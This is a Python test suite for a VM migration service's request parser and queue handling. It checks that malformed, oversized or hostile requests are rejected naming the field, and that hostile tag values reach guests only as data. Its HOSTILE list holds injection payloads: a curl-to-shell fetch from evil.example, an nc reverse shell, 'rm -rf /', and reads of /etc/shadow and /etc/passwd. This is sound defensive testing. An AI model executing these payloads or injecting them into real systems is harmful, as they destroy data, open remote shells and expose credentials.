"""Bad input: every malformed, oversized or hostile request is rejected naming the field, or handled safely; on
the local stack such messages are dead-lettered with a reason, and nothing reaches a guest unvalidated."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aws_lambdas.guest_scripts import load_manifests
from cli.dlq import rejection_causes
from functions.settings import REQUESTS_QUEUE
from local.host import MAX_DELIVERY_COUNT_EXCEEDED
from local.stack import LocalStack
from shared.errors import InvalidRequestError
from shared.lifecycle import VmState
from shared.request import MAX_REQUEST_BYTES, parse_request
from tests.reliability.conftest import small_scenario
from tests.unit.requests import VALID, request

HOSTILE = [
    "$(rm -rf /)",
    "`reboot`",
    "web; rm -rf / #",
    "a && curl http://evil.example | sh",
    "../../etc/passwd",
    "web\nPermitRootLogin yes",
    "web\r\nX: y",
    "web\x00null",
    "web\x1b[31mred",
    "web\u202eexe.txt",
    "web|nc -e /bin/sh 10.0.0.1 4444",
    "${IFS}cat${IFS}/etc/shadow",
    "web'\"",
]


def _issues(data: Any) -> tuple[str, ...]:
    with pytest.raises(InvalidRequestError) as caught:
        parse_request(data)
    return caught.value.issues or (str(caught.value),)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('{"request_id": "w1",', "not valid JSON"),
        ("{'request_id': 'w1'}", "not valid JSON"),
        ("[1, 2, 3]", "expected a JSON object"),
        ('"just a string"', "expected a JSON object"),
        ("null", "expected a JSON object"),
        ("", "expected a JSON object"),
        (b"\xff\xfe\x00garbage", "not UTF-8"),
        ("{: [", "not valid JSON"),
        ("key: [unclosed", "not valid YAML"),
    ],
)
def test_malformed_documents_are_rejected_with_a_clear_error(text: str | bytes, expected: str) -> None:
    with pytest.raises(InvalidRequestError, match=re.escape(expected)):
        parse_request(text)


@pytest.mark.parametrize(
    ("path", "value", "field"),
    [
        (("request_id",), 12345, "request_id"),
        (("max_parallel",), "ten", "max_parallel"),
        (("max_parallel",), 10_000, "max_parallel"),
        (("approval_timeout_hours",), -1, "approval_timeout_hours"),
        (("vms",), {"instance_id": "i-0b000000000000001"}, "vms"),
        (("vms",), [], "vms"),
        (("vms", 0, "instance_id"), ["i-0b000000000000001"], "vms[0].instance_id"),
        (("vms", 0, "exclude_disks"), "/dev/sdf", "vms[0].exclude_disks"),
        (("target", "hybrid_benefit"), "maybe", "target.hybrid_benefit"),
        (("target",), "westeurope", "target"),
        (("appliance", "private_ip"), "10.0.1.300", "appliance.private_ip"),
        (("tags",), ["a", "b"], "tags"),
        (("mode",), "yolo", "mode"),
    ],
)
def test_wrong_types_are_rejected_naming_the_field(path: tuple[Any, ...], value: Any, field: str) -> None:
    data = request()
    target: Any = data
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    issues = _issues(data)
    assert any(issue.startswith(f"{field}:") or issue.startswith(f"{field}[") for issue in issues), issues


@pytest.mark.parametrize(
    ("where", "field"),
    [
        ((), "priority"),
        (("target",), "target.password"),
        (("vms", 0), "vms[0].user_data"),
        (("appliance",), "appliance.ssh_key"),
    ],
)
def test_unknown_fields_are_rejected_naming_them(where: tuple[Any, ...], field: str) -> None:
    data = request()
    target: Any = data
    for part in where:
        target = target[part]
    target[field.rsplit(".", 1)[-1].rsplit("]", maxsplit=1)[-1].lstrip(".")] = "x"
    assert f"{field}: unknown field (not part of the migration request)" in _issues(data)


def test_ten_thousand_vms_in_one_request_are_rejected_quickly() -> None:
    vms = [{"instance_id": f"i-{index:017x}"} for index in range(1, 10_001)]
    issues = _issues(json.dumps(request(vms=vms)))
    assert any(issue.startswith("vms:") and "1000" in issue for issue in issues), issues[:3]


@pytest.mark.parametrize("size", [MAX_REQUEST_BYTES + 1, 8 * 1024 * 1024])
def test_megabytes_of_request_are_refused_before_parsing(size: int) -> None:
    data = request()
    data["tags"] = {"blob": "x" * size}
    with pytest.raises(InvalidRequestError, match="at most"):
        parse_request(json.dumps(data))
    with pytest.raises(InvalidRequestError, match="at most"):
        parse_request(json.dumps(data).encode())


def test_a_huge_string_in_a_dict_is_rejected_naming_the_field_and_truncated_in_the_message() -> None:
    data = request()
    data["vms"][0]["target_vm_name"] = "a" * (3 * 1024 * 1024)
    issues = _issues(data)
    assert any(issue.startswith("vms[0].target_vm_name:") for issue in issues)
    assert max(len(issue) for issue in issues) < 1000


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize(
    "field",
    [
        "request_id",
        "vms[0].target_vm_name",
        "vms[0].instance_id",
        "vms[0].exclude_disks",
        "target.subnet",
        "target.resource_group",
        "appliance.security_group_id",
        "region",
    ],
)
def test_injection_attempts_in_names_are_rejected_naming_the_field(hostile: str, field: str) -> None:
    data = request()
    parts = re.findall(r"[a-z_]+|\[\d+\]", field)
    target: Any = data
    for part in parts[:-1]:
        target = target[int(part[1:-1])] if part.startswith("[") else target[part]
    target[parts[-1]] = [hostile] if parts[-1] == "exclude_disks" else hostile
    issues = _issues(data)
    assert any(issue.startswith(field) for issue in issues), issues


@pytest.mark.parametrize("hostile", HOSTILE)
def test_tag_names_with_path_or_control_characters_are_rejected_and_others_kept_as_data(hostile: str) -> None:
    data = request()
    data["tags"] = {hostile: "v"}
    if re.search(r"[<>%&\\?/\x00-\x1f]", hostile):
        assert any(issue.startswith("tags") for issue in _issues(data))
    else:
        assert parse_request(data).tags == {hostile: "v"}


@pytest.mark.parametrize("hostile", [h for h in HOSTILE if not any(ord(c) < 0x20 for c in h)])
def test_printable_hostile_tag_values_are_accepted_as_data(hostile: str) -> None:
    """Tag values are free text in EC2 and Azure: accepted, and carried only as data (see the stack test)."""
    data = request()
    data["tags"] = {"note": hostile}
    assert parse_request(data).tags == {"note": hostile.strip()}


@pytest.mark.parametrize("hostile", [h for h in HOSTILE if any(ord(c) < 0x20 for c in h)])
def test_tag_values_with_control_characters_are_rejected(hostile: str) -> None:
    data = request()
    data["tags"] = {"note": hostile}
    assert any(issue.startswith("tags") for issue in _issues(data))


# --- property-based: structural mutations of valid requests --------------------------------------------------

json_scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=30)
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3),
    max_leaves=8,
)


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(value, dict):
        for key, child in value.items():
            found += _paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found += _paths(child, (*prefix, index))
    return found


@st.composite
def mutated_requests(draw: st.DrawFn) -> Any:  # noqa: PLR0912 - one branch per mutation
    data = copy.deepcopy(VALID)
    data["vms"][0]["tags"] = {"App": "shop"}
    data["vms"][0]["disk_types"] = {"/dev/sdf": "Premium_LRS"}
    data["target"]["availability"] = "zone:1"
    for _ in range(draw(st.integers(1, 4))):
        paths = _paths(data)
        path = draw(st.sampled_from(paths))
        if not path:
            data = draw(json_values)
            continue
        parent: Any = data
        for part in path[:-1]:
            parent = parent[part]
        key = path[-1]
        action = draw(st.sampled_from(["delete", "replace", "duplicate", "wrap", "unknown", "stringify", "nest"]))
        if action == "delete":
            del parent[key]
        elif action == "replace":
            parent[key] = draw(json_values)
        elif action == "duplicate" and isinstance(parent, list):
            parent.append(copy.deepcopy(parent[key]))
        elif action == "wrap":
            parent[key] = [parent[key]]
        elif action == "unknown" and isinstance(parent, dict):
            parent[draw(st.text(min_size=1, max_size=10))] = draw(json_values)
        elif action == "stringify":
            parent[key] = json.dumps(parent[key])
        elif action == "nest":
            parent[key] = {"value": parent[key]}
        if not isinstance(data, dict | list):
            break
    as_text = draw(st.sampled_from(["dict", "json", "bytes", "yaml"]))
    if as_text == "dict":
        return data
    try:
        text = json.dumps(data)
    except ValueError:
        return data
    return text.encode() if as_text == "bytes" else ("--- " + text if as_text == "yaml" else text)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_requests())
def test_structurally_mutated_requests_never_raise_anything_but_a_validation_error(data: Any) -> None:
    try:
        parse_request(data)
    except InvalidRequestError as error:
        assert str(error)
        for issue in error.issues:
            assert issue and len(issue) < 2000


# --- through the queue trigger on the local stack ------------------------------------------------------------


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
    scenario = small_scenario("reliability-input", 2)
    with LocalStack.open(scenario, tmp_path_factory.mktemp("input")) as opened:
        yield opened


BAD_MESSAGES: dict[str, bytes] = {
    "not-json": b'{"request_id": "x",',
    "array": b"[1,2,3]",
    "binary": b"\xff\xfe\xfa\x00",
    "wrong-types": json.dumps(request(max_parallel="ten", vms="all")).encode(),
    "unknown-field": json.dumps(request(run_as_root=True)).encode(),
    "injection": json.dumps(request(request_id="$(rm -rf /)")).encode(),
    "traversal": json.dumps(request(vms=[{"instance_id": "../../etc/passwd"}])).encode(),
    "too-many": json.dumps(request(vms=[{"instance_id": f"i-{n:017x}"} for n in range(1, 10_001)])).encode(),
    "huge": json.dumps(request(tags={"blob": "x" * (MAX_REQUEST_BYTES + 10)})).encode(),
}


def test_bad_messages_are_dead_lettered_with_a_reason_and_start_nothing(stack: LocalStack) -> None:
    for message_id, body in BAD_MESSAGES.items():
        stack.host.send(REQUESTS_QUEUE, body, message_id=message_id, content_type="application/json")
    stack.host.run_until_idle(horizon=timedelta(minutes=30))
    dead = {message.message_id: message for message in stack.host.dead_letters(REQUESTS_QUEUE)}
    assert set(dead) == set(BAD_MESSAGES)
    assert {message.dead_letter_reason for message in dead.values()} == {MAX_DELIVERY_COUNT_EXCEEDED}
    causes = rejection_causes(stack.events.read())
    for message_id in BAD_MESSAGES:
        assert causes[message_id].startswith("InvalidRequest: "), causes.get(message_id)
    assert not any(s.instance_id.startswith("wave-") for s in stack.host.instances())
    rejected = [e for e in stack.events.read() if e.type.value == "request.rejected"]
    assert {e.event_id for e in rejected} >= {f"rejected:{m}" for m in BAD_MESSAGES}
    assert any("max_parallel" in e.detail for e in rejected)


def test_hostile_tags_travel_as_data_and_every_guest_parameter_matches_its_manifest(stack: LocalStack) -> None:
    hostile_tags = {f"t{i}": h for i, h in enumerate(HOSTILE) if not any(ord(c) < 0x20 for c in h)}
    body = copy.deepcopy(stack.scenario.request)
    body["request_id"] = "reliability-hostile-tags"
    body["tags"] = hostile_tags
    body["target"] = {**body["target"], "tags": hostile_tags}
    body["vms"] = [{**vm, "tags": {"Owner": "$(id)", "Path": "../../etc/passwd"}} for vm in body["vms"]]
    stack.use_request(body)
    stack.submit()
    outcome = stack.run()
    assert outcome.summary is not None
    assert {vm.state for vm in outcome.summary.vms} == {VmState.COMPLETED}

    manifests = load_manifests()
    assert stack.guests.history, "no SSM command reached the guests"
    for dispatch in stack.guests.history:
        manifest = manifests[dispatch.document_name.removeprefix(f"{stack.seeded.document_prefix}-")]
        patterns = {parameter.name: parameter.allowed_pattern for parameter in manifest.parameters}
        assert set(dispatch.parameters) <= set(patterns), (dispatch.document_name, dispatch.parameters)
        for name, value in dispatch.parameters.items():
            assert re.fullmatch(patterns[name], value), (dispatch.document_name, name, value)
            assert not any(h in value for h in HOSTILE)
